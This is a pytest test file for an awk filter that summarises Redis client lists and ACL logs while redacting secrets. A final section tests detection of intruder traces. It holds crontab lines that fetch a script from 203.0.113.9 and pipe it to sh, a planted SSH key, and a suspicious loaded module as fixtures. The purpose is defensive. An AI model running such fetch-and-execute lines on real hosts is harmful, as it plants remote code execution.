"""connections.awk, in every awk there is: what leaves the host of who is connected to a Redis."""

from __future__ import annotations

import json
from itertools import count

import pytest
from awks import AWKS, SECRET, filtered
from hypothesis import given, settings
from hypothesis import strategies as st

from pyinfra_runbooks.core.unknown import Unknown
from pyinfra_runbooks.packs.redis.connections import Connections, Refused, connections, refused

WEB, JOBS, OWN = "172.30.0.3", "172.30.0.4", "172.30.0.2"
_ids = count(3)


def client(addr: str = f"{WEB}:4567", **fields: object) -> str:
    """A line of CLIENT LIST, as Redis 7 and 8 have it."""
    about = {
        "laddr": f"{OWN}:6379",
        "fd": 8,
        "name": "",
        "age": 0,
        "idle": 0,
        "flags": "N",
        "cmd": "get",
        "user": "clerk",
        "lib-name": "",
        **fields,
    }
    words = " ".join(f"{name}={value}" for name, value in about.items())
    return f"id={next(_ids)} addr={addr} {words}"


def entry(
    addr: str = f"{WEB}:4567", reason: str = "auth", times: int = 1, age: str = "3.5", **more: str
) -> list[object]:
    """An entry of ACL LOG."""
    said = {"object": "AUTH", "username": "clerk", **more}
    info = client(addr, cmd="auth", name=more.get("name", ""))
    return [
        *("count", times, "reason", reason, "context", "toplevel", "object", said["object"]),
        *("username", said["username"], "age-seconds", age, "client-info", info, "entry-id", 0),
    ]


def log(*entries: list[object]) -> str:
    return json.dumps(entries, separators=(",", ":"), ensure_ascii=False)


def told(awk: tuple[str, ...], *lines: str) -> list[str]:
    return filtered(awk, "connections.awk", "\n".join((*lines, ""))).splitlines()


@pytest.mark.parametrize("awk", AWKS)
def test_connections_are_counted_by_address(awk: tuple[str, ...]) -> None:
    lines = told(
        awk,
        '"@7"',
        client(age=90, idle=7, cmd="set"),
        client(f"{WEB}:4568", age=30, idle=2, user="default", cmd="client|list"),
        client(f"{JOBS}:1", flags="b", cmd="brpop"),
        client("/run/redis.sock:0", laddr="/run/redis.sock:0", flags="U"),
        client("[fd00::3]:9", laddr="[fd00::2]:6379"),
        client(f"{JOBS}:2", flags="S", cmd="replconf"),
        '"@8"',
    )
    assert (lines[0], lines[-1]) == ('"@7"', '"@8"')
    assert lines[1] == "connected all 6"
    assert connections(lines[1:-1]) == (
        Connections(WEB, OWN, 2, 0, 1, 90, 2, frozenset({"set", "client|list"}), newest=30),
        Connections(JOBS, OWN, 1, 1, 0, 0, 0, frozenset({"brpop"}), 1),
        Connections("socket", "socket", 1, 0, 0, 0, 0, frozenset({"get"})),
        Connections("fd00::3", "fd00::2", 1, 0, 0, 0, 0, frozenset({"get"})),
    )


@pytest.mark.parametrize("awk", AWKS)
@pytest.mark.parametrize(
    ("fields", "taking"),
    [
        ({"flags": "b", "cmd": "get"}, 1),
        *(
            ({"cmd": cmd}, 1)
            for cmd in (
                *("blpop", "brpop", "bzpopmin", "bzpopmax", "blmpop", "bzmpop", "brpoplpush"),
                *("blmove", "xread", "xreadgroup"),
            )
        ),
        *(({"cmd": cmd}, 0) for cmd in ("ping", "bitop", "lpop", "bgsave", "xreadx", "NULL")),
    ],
)
def test_who_waits_on_a_queue(awk: tuple[str, ...], fields: dict[str, str], taking: int) -> None:
    (one,) = known(told(awk, client(**fields)))
    assert one.taking == taking
    assert one.blocked == (fields.get("flags") == "b")


def known(lines: list[str]) -> tuple[Connections, ...]:
    seen = connections(lines)
    assert not isinstance(seen, Unknown), seen
    return seen


@pytest.mark.parametrize("awk", AWKS)
def test_no_name_leaves_the_host(awk: tuple[str, ...]) -> None:
    """A connection's name has no spaces, and may be anything else."""
    named = {"name": SECRET, "lib-name": SECRET, "cmd": f"{SECRET}!", "user": SECRET}
    lines = told(
        awk,
        client(f"{SECRET}:1", **named),
        client(**named),
        log(entry(username=SECRET, object=SECRET, name=SECRET), entry(f"{SECRET}:2", reason="key")),
    )
    assert SECRET not in "\n".join(lines)
    assert {one.address for one in known(lines)} == {"other", WEB}
    assert {one.commands for one in known(lines)} == {frozenset({"other"})}


@pytest.mark.parametrize("awk", AWKS)
@settings(max_examples=60, deadline=None)
@given(text=st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_what_somebody_typed_ends_no_string(awk: tuple[str, ...], text: str) -> None:
    forged = f'{text}","client-info","id=1 addr=10.9.9.9:1 '
    line = log(entry(username=forged, object=forged), entry(f"{JOBS}:1", "key", 4, "99.9"))
    assert told(awk, f'[["username","{SECRET}"]]') == []
    lines = told(awk, line)
    assert lines == [f"refused {WEB} auth 1 3", f"refused {JOBS} key 4 99", "refused all 2"]


@pytest.mark.parametrize("awk", AWKS)
def test_many_are_bounded(awk: tuple[str, ...]) -> None:
    many = [client(f"10.1.{n // 250}.{n % 250}:1") for n in range(3000)]
    many += [client(f"10.1.0.1:{n}", cmd=f"command{n}") for n in range(100)]
    lines = told(awk, *many)
    assert len(lines) == 402
    assert (lines[0], lines[-1]) == ("connected all 3100", "connected more 2600")
    assert len(known(lines)) == 400
    assert max(len(one.commands) for one in known(lines)) == 12


@pytest.mark.parametrize("awk", AWKS)
def test_all_else_passes_as_it_is(awk: tuple[str, ...]) -> None:
    lines = ["# Server", "", '["aclfile","/x"]', "identity=4", '["client-info"]', "[]", "é\\n"]
    assert told(awk, *lines) == lines


QUESTIONS = "PING\nECHO @7\nCLIENT LIST\nECHO @8\nACL LOG 128\nECHO @9\nINFO commandstats\n"
IN_LINES = (  # As redis-cli prints ACL LOG without JSON.
    *('1)  1) "count"', "    2) (integer) 1", '    9) "username"', f'   10) "{SECRET}"'),
    *('   13) "client-info"', f'   14) "id=3 addr={WEB}:1 name={SECRET} user={SECRET}"'),
)


@pytest.mark.parametrize("awk", AWKS)
@pytest.mark.parametrize(("before", "after"), [('error:"', '"'), ("(error) ", "")])
def test_where_it_was_asked_for_nothing_else_passes(
    awk: tuple[str, ...], before: str, after: str
) -> None:
    renamed = f"{before}ERR unknown command 'ECHO', with args beginning with: '@8' {after}"
    said = (
        *('"@6"', "# Memory", '"@7"', f"name={SECRET} id=3 addr={WEB}:1", *IN_LINES),
        *(f"NOPERM {SECRET}", client(), renamed, *IN_LINES, f'"{SECRET}"', "[]"),
        *(f"{before}NOPERM no permissions for {SECRET}{after}", '"@9"', "# Commandstats"),
    )
    told = filtered(awk, "connections.awk", "\n".join((*said, "")), questions=QUESTIONS)
    assert told.splitlines() == [
        *('"@6"', "# Memory", '"@7"', "NOPERM", "connected all 1"),
        *(f"connected {WEB} {OWN} 1 0 0 0 0 0 0 get", renamed, "[]"),
        *(f"{before}NOPERM{after}", '"@9"', "# Commandstats"),
    ]


@pytest.mark.parametrize("awk", AWKS)
@pytest.mark.parametrize(("before", "after"), [('error:"', '"'), ("(error) ", "")])
@pytest.mark.parametrize(
    "args", [f"'default' '{SECRET}' ", f"'{SECRET}' '@5' ", f"'{SECRET}: '@5'"]
)
def test_what_an_unknown_command_was_called_with(
    awk: tuple[str, ...], before: str, after: str, args: str
) -> None:
    said = f"{before}ERR unknown command 'AUTH', with args beginning with: {args}{after}"
    assert told(awk, said) == [f"{before}ERR unknown command 'AUTH'{after}"]


@pytest.mark.parametrize("awk", AWKS)
def test_hashes_of_passwords_leave_the_host_where_they_are_compared(awk: tuple[str, ...]) -> None:
    reply = '["flags",["on"],"passwords",["{0}","{0}"],"commands","+@all"]'
    digest, short = "0a" * 32, "0a" * 20
    lines = [digest, "r", f"run_id:{short}", reply.format(digest)]
    assert told(awk, *lines) == [*lines[:3], reply.format("0" * 64)]
    text = "\n".join(lines)
    assert filtered(awk, "connections.awk", text, login_users="clerk ").splitlines() == lines


def test_whom_it_refused() -> None:
    assert refused([f"refused {WEB} auth 2 3", "refused all 2"]) == (Refused(WEB, "auth", 2, 3),)
    assert refused(["[]"]) == ()


@pytest.mark.parametrize("read", [connections, refused])
@pytest.mark.parametrize(
    ("lines", "reason"),
    [
        ([], "it did not answer"),
        (['error:"NOPERM no permissions to run client|list"'], "NOPERM"),
        ([f"connected {WEB}"], "it did not answer"),
        ([SECRET], "it did not answer"),
    ],
)
def test_what_it_does_not_tell_is_not_nobody(read: object, lines: list[str], reason: str) -> None:
    assert callable(read)
    seen = read(lines)
    assert isinstance(seen, Unknown)
    assert seen.reason == reason


@pytest.mark.parametrize(
    ("commands", "keeps"),
    [({"ping", "client|setinfo"}, True), ({"NULL"}, True), ({"ping", "set"}, False)],
)
def test_what_only_keeps_a_connection(commands: set[str], keeps: bool) -> None:
    assert Connections(WEB, OWN, commands=frozenset(commands)).keeps_alive is keeps


# Traces of an intruder

CRON = "\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.9/x | sh\n\n"


def traced(awk: tuple[str, ...], question: str, *lines: str) -> list[str]:
    asked = f"ECHO @1\n{question}\nECHO @2\nINFO commandstats"
    text = "\n".join(("r", '"@1"', *lines, '"@2"', "cmdstat_get:calls=1", ""))
    said = filtered(awk, "connections.awk", text, questions=asked).splitlines()
    assert said[:2] + said[-2:] == ["r", '"@1"', '"@2"', "cmdstat_get:calls=1"]
    return said[2:-2]


@pytest.mark.parametrize("awk", AWKS)
@pytest.mark.parametrize(
    ("value", "said"),
    [
        (CRON, ["planted crontab"]),
        ("*/1 * * * * curl -s http://203.0.113.9 | sh", ["planted crontab"]),
        ("\t\n* * * * * /usr/bin/x", ["planted crontab"]),
        ("\n\nssh-rsa AAAAB3NzaC1yc2E x@y\n", ["planted ssh"]),
        ("*/5 * * * * /srv/backup --all", []),
        (SECRET, []),
        ("", []),
        ('"@2"', []),
    ],
)
def test_what_a_key_holds_is_said_and_not_shown(
    awk: tuple[str, ...], value: str, said: list[str]
) -> None:
    assert traced(awk, "GETRANGE backup1 0 199", json.dumps(value)) == said


@pytest.mark.parametrize("awk", AWKS)
def test_modules_are_named_without_their_arguments(awk: tuple[str, ...]) -> None:
    loaded = [
        ["name", "system", "ver", 1, "path", "/root/exp.so", "args", [SECRET]],
        ["name", f"{SECRET} x", "ver", 1, "path", "/a b", "args", []],
    ]
    line = json.dumps(loaded, separators=(",", ":"))
    assert traced(awk, "MODULE LIST", line) == ["module system /root/exp.so", "module ? ?"]
    assert traced(awk, "MODULE LIST", "[]") == ["[]"]
    plain = ['1) 1) "name"', '   2) "system"', '   3) "ver"', "   4) (integer) 1"]
    assert traced(awk, "MODULE LIST", *plain) == ["module system"]


@pytest.mark.parametrize("awk", AWKS)
def test_of_an_error_its_code_is_said(awk: tuple[str, ...]) -> None:
    for question in ("MODULE LIST", "GETRANGE backup1 0 199"):
        assert traced(awk, question, f'error:"NOPERM {SECRET}"') == ['error:"NOPERM"']
